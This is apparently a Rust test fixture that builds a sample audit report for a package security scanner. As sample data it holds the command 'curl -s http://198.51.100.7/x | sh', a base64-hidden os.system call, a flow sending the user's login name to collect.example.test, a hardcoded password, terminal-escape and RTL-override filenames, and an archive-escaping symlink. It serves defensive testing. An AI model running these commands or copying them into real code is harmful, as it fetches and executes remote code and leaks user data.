//! A report with one of everything: two inputs, layers, a decoded payload, a binary, hostile names, all levels of findings.

use doorward_model::*;

const SETUP: &[u8] = b"import os\nos.system(cmd)  # from base64\n";
const PAYLOAD: &[u8] = b"curl -s http://198.51.100.7/x | sh\n";
const ELF: &[u8] = b"\x7fELF\x02\x01\x01\0secret=hunter2!\0\0";
pub const HOSTILE: &[u8] = b"\x1b[2J\x1b]0;owned\x07\r\ngone\n\xe2\x80\xaegpj.exe \xff\xfe > a\\b\t\"quoted\"";

pub fn digest(seed: u8) -> Digest {
    Digest([seed; 32])
}

fn content(seed: u8, len: u64, format: &str, examined: Examined) -> Content {
    let reading = Reading { format: format.into() };
    let functions = vec!["".into(), "main".into()];
    Content { digest: digest(seed), len, reading, examined, functions, facts: Vec::new(), problems: Vec::new(), summary: None }
}

fn node(parent: Option<u32>, step: Step, name: &[u8], content: Option<u32>) -> Node {
    let meta = Meta { kind: if content.is_some() { Kind::File } else { Kind::Directory }, ..Meta::default() };
    Node { parent: parent.map(NodeId), step, name: name.into(), meta, content: content.map(ContentId) }
}

fn evidence(node: u32, content: u32, seed: u8, span: (u64, u64), excerpt: &[u8]) -> Evidence {
    Evidence {
        node: NodeId(node),
        content: Some(ContentId(content)),
        digest: digest(seed),
        span: Span::new(span.0, span.1),
        kind: "process.spawn".into(),
        says: "runs `curl -s http://198.51.100.7/x | sh`".into(),
        line: 1,
        column: 1,
        excerpt: excerpt.into(),
        excerpt_start: 0,
        way: Vec::new(),
    }
}

fn finding(id: &str, rule: &str, title: &str, door: &str, level: Level, evidence: Vec<Evidence>) -> Finding {
    let grade = match level {
        Level::Alarm => Grade::High,
        Level::Review => Grade::Medium,
        Level::Note => Grade::Low,
    };
    Finding {
        fingerprint: id.into(),
        rule: rule.into(),
        title: title.into(),
        door: door.into(),
        level,
        severity: grade,
        confidence: grade,
        state: None,
        phase: Phase::Install,
        guards: Vec::new(),
        node: evidence.first().map_or(NodeId(0), |evidence| evidence.node),
        also: Vec::new(),
        places: 0,
        opens_to: None,
        evidence,
        parts: Vec::new(),
    }
}

fn contents() -> Vec<Content> {
    let mut gzip = content(1, 900, "gzip", Examined::Opened);
    gzip.problems.push(Problem::at(Span::new(800, 900), ProblemKind::Unaccounted, "100 bytes behind the end"));
    let tar = content(2, 10_240, "tar", Examined::Opened);
    let mut setup = content(3, SETUP.len() as u64, "python", Examined::Parsed);
    let decode = Fact::new(&vocabulary::DECODE, Span::new(31, 37), "base64").with("codec", "base64").with("bytes", 35u64);
    let mut url =
        Fact::new(&vocabulary::URL, Span::new(8, 29), "url").with("url", "http://198.51.100.7/x").with("host", "198.51.100.7");
    url.args.push(("userinfo", Value::Computed));
    url.anchor = Anchor { line: 1, column: 9, excerpt: PAYLOAD.into(), start: 0 };
    let mut flow = url.clone();
    flow.function = 1;
    flow.steps = vec![Site { content: Some(ContentId(4)), span: Span::new(1, 2) }, Site { content: None, span: Span::new(3, 4) }];
    flow.args = vec![
        (
            "url",
            Value::List(vec![
                Value::Number(-3),
                Value::From { sources: vec!["env.read".into()], transforms: vec!["hex".into()] },
            ]),
        ),
        ("host", Value::Text(HOSTILE.into())),
    ];
    setup.facts = vec![decode, flow];
    let mut payload = content(4, PAYLOAD.len() as u64, "shell", Examined::Scanned);
    payload.facts.push(url);
    let mut elf = content(5, ELF.len() as u64, "elf", Examined::Parsed);
    let binary = Fact::new(&vocabulary::BINARY, Span::new(0, 8), "elf").with("format", "elf").with("arch", "x86-64");
    elf.facts.push(binary.with("kind", "executable").with("bits", 64i64).with("stripped", true));
    let key = Fact::new(&vocabulary::KEY_PRIVATE, Span::new(9, 12), "keys").with("kind", "rsa");
    elf.facts.push(key.with("fingerprint", "0011223344556677"));
    let mut odd = content(6, 7, "data", Examined::Hashed);
    odd.problems.push(Problem::new(ProblemKind::Encrypted, "no password opens it"));
    vec![gzip, tar, setup, payload, elf, odd]
}

fn findings() -> Vec<Finding> {
    let mut spawn = evidence(3, 2, 3, (10, 24), SETUP);
    (spawn.line, spawn.column) = (2, 1);
    let mut download = evidence(4, 3, 4, (0, 34), PAYLOAD);
    download.kind = "pattern".into();
    download.says = "text `curl -s http://198.51.100.7/x | sh` fetches a program and runs it".into();
    let title = "Fetches a program and runs it while it is installed";
    let mut alarm = finding("0123456789abcdef", "install/fetch-and-run", title, "BLD-3", Level::Alarm, vec![spawn, download]);
    alarm.opens_to = Some("whoever controls the address 198.51.100.7".into());
    (alarm.also, alarm.places) = (vec![NodeId(5), NodeId(6), NodeId(7), NodeId(8), NodeId(0)], 998);
    alarm.parts = vec!["network/plain-http".into(), "hidden/base64-shell".into()];
    let mut flow = evidence(3, 2, 3, (10, 24), SETUP);
    flow.kind = "flow".into();
    flow.says = "from \"host.read\", to \"net.send\", what \"user\", host \"collect.example.test\"".into();
    let told =
        |does: &str, line, text: &str| Told { does: does.into(), line, text: text.as_bytes().into(), file: Box::default() };
    flow.way = vec![
        told("reads the user's name", 1, "import os; user = os.getlogin()"),
        told("writes it as base64, or reads it back", 2, "send(encode(user)) # \u{202e}"),
        told("hands it on", 0, ""),
        told("sends it to host collect.example.test", 2, "send(encode(user)) # \u{202e}"),
    ];
    alarm.evidence.push(flow);
    alarm.guards = vec!["only after a test of the platform (`win32`), line 4".into()];
    let mut secret = evidence(5, 4, 5, (8, 23), ELF);
    (secret.line, secret.column, secret.kind) = (0, 0, "credential".into());
    secret.says = "a password, fingerprint 8899aabbccddeeff".into();
    let mut review =
        finding("0123aaaaaaaaaaaa", "keys/password-in-binary", "Password in an executable", "ACC-1", Level::Review, vec![secret]);
    review.phase = Phase::Run;
    (review.also, review.places) = (vec![NodeId(7)], 1);
    review.state = Some(State::Undeclared);
    let mut name = evidence(6, 5, 6, (0, 7), b"\x1b[31mred");
    name.kind = "place".into();
    name.says = text::visible(HOSTILE).into();
    let note = finding("fedcba9876543210", "hygiene/odd-name", "A name that steers a terminal", "HYG-2", Level::Note, vec![name]);
    vec![alarm, review, note]
}

fn tree() -> Tree {
    let decoded = Step::Decoded { from: Span::new(31, 37), codec: "base64".into() };
    let mut nodes = vec![
        node(None, Step::Root { index: 0 }, b"", Some(0)),
        node(None, Step::Root { index: 1 }, b"", None),
        node(Some(0), Step::Layer, b"", Some(1)),
        node(Some(2), Step::Member { index: 0 }, b"package/setup.py", Some(2)),
        node(Some(3), decoded, b"", Some(3)),
        node(Some(1), Step::Member { index: 0 }, b"bin/tool", Some(4)),
        node(Some(1), Step::Member { index: 1 }, HOSTILE, Some(5)),
        node(Some(2), Step::Member { index: 1 }, b"package/link", None),
        node(Some(0), Step::Carved { from: Span::new(800, 900) }, b"", Some(5)),
    ];
    nodes[5].meta = Meta { mode: Some(0o755), uid: Some(0), gid: Some(0), ..Meta::default() };
    nodes[7].meta = Meta { kind: Kind::Symlink, link_target: Some(b"../../\x1b[1metc".as_slice().into()), ..Meta::default() };
    let script = Fact::new(&vocabulary::SCRIPT, Span::new(0, 9), "npm").with("event", "postinstall").with("command", "node x.js");
    let unit = Unit {
        ecosystem: "pypi".into(),
        name: "sample".into(),
        version: "1.0\u{202e}".into(),
        base: NodeId(2),
        folder: b"package/".as_slice().into(),
        members: vec![NodeId(3)],
        facts: vec![(NodeId(3), script.with("phase", "install"))],
    };
    Tree {
        roots: vec![
            Root { kind: Kind::File, digest: Some(digest(1)), bytes: 900 },
            Root { kind: Kind::Directory, digest: None, bytes: 32 },
        ],
        nodes,
        contents: contents(),
        place_problems: vec![(
            NodeId(7),
            Problem::new(ProblemKind::Deceptive, "it points out of the archive: ../../\\u{1b}[1metc"),
        )],
        units: vec![unit],
        placements: Vec::new(),
    }
}

/// A failed audit.
pub fn report() -> Report {
    let count = |contents, bytes| Count { contents, bytes };
    let examined = [("hashed", count(1, 7)), ("opened", count(2, 11_140)), ("parsed", count(2, 65)), ("scanned", count(1, 35))];
    let coverage = Coverage {
        files: 7,
        contents: 6,
        bytes: 11_247,
        examined: examined.into_iter().map(|(name, count)| (name.into(), count)).collect(),
        formats: [("gzip".into(), count(1, 900)), ("python".into(), count(1, 40))].into(),
        problems: [("deceptive".into(), 1), ("encrypted".into(), 1), ("unaccounted".into(), 1)].into(),
    };
    Report {
        tool: "0.1.0".into(),
        rules: RulesStamp { count: 23, digest: digest(0xab), policy: "default".into(), policy_digest: digest(0xcd) },
        limits: Limits::default(),
        repeatable: true,
        assurance: "L0".into(),
        coverage,
        tree: tree(),
        judgement: Judgement { findings: findings(), verdict: Verdict::Fail, incomplete_because: Vec::new() },
        baseline: None,
        deposit: None,
    }
}

/// The same without findings.
pub fn passed() -> Report {
    let mut report = report();
    report.judgement = Judgement { findings: Vec::new(), verdict: Verdict::Pass, incomplete_because: Vec::new() };
    report
}
